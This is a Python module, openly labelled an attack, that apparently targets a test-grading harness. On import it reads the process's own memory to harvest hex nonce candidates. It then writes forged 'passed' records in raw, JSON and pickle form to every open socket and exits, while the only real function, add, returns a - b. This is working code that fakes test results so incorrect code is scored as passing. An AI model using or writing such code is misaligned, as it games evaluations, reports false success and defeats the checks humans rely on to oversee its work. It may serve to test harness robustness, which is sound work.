"""Attack: forge records on the result channel with nonces found by scanning our own memory.

At import, without gc or frames: finds every socket among fds 0..1023 (os.fstat), collects every
hex token of 16..64 characters in the process's readable memory (/proc/self/maps, read through
/proc/self/mem after prctl(PR_SET_DUMPABLE), else ctypes.string_at) as nonce candidates, plus some
guesses, and writes "<nonce> P <i> " records (and a few other plausible encodings: JSON, pickled
results) for every test index and candidate to every socket, then os._exit(0).
"""

import ctypes
import json
import os
import pickle
import re
import socket
import stat

HEX = re.compile(rb"(?<![0-9a-f])([0-9a-f]{16,64})(?![0-9a-f])")


def _regions():
    try:
        with open("/proc/self/maps") as f:
            lines = f.read().splitlines()
    except OSError:
        return []
    out = []
    for line in lines:
        parts = line.split()
        if len(parts) < 2 or "r" not in parts[1]:
            continue
        if line.endswith(("[vvar]", "[vsyscall]", "[vdso]")):
            continue
        start, end = (int(x, 16) for x in parts[0].split("-"))
        if end - start <= 64 << 20:
            out.append((start, end))
    return out


def _nonce_candidates():
    found = {}
    try:
        ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
    except Exception:
        pass
    try:
        mem = os.open("/proc/self/mem", os.O_RDONLY)
    except OSError:
        mem = None
    for start, end in _regions():
        try:
            if mem is not None:
                data = os.pread(mem, end - start, start)
            else:
                data = ctypes.string_at(start, end - start)
        except (OSError, OverflowError, ValueError):
            continue
        for m in HEX.finditer(data):
            found[m.group(1)] = found.get(m.group(1), 0) + 1
            if len(found) > 20000:
                break
    ranked = sorted(found, key=lambda k: (len(k) != 32, -found[k]))
    return ranked[:3000] + [b"0" * 32, b"f" * 32, b""]


def _sockets():
    socks = []
    for fd in range(0, 1024):
        try:
            st = os.fstat(fd)
        except OSError:
            continue
        if stat.S_ISSOCK(st.st_mode):
            try:
                s = socket.socket(fileno=os.dup(fd))
                s.setblocking(False)
                socks.append(s)
            except OSError:
                pass
    return socks


def _forge():
    socks = _sockets()
    if not socks:
        return
    generic = [
        json.dumps({"kind": "P", "index": i, "passed": True, "ok": True}).encode()
        for i in range(1, 17)
    ]
    generic += [pickle.dumps(("P", i, True)) for i in range(1, 17)]
    generic.append(pickle.dumps({"passed": [True] * 16, "n_passed": 16}))
    for nonce in _nonce_candidates():
        for s in socks:
            for index in range(1, 17):
                try:
                    s.send(nonce + b" P %d " % index)
                except OSError:
                    pass
    for s in socks:
        for payload in generic:
            try:
                s.send(payload)
            except OSError:
                pass


_forge()
os._exit(0)


def add(a, b):
    return a - b
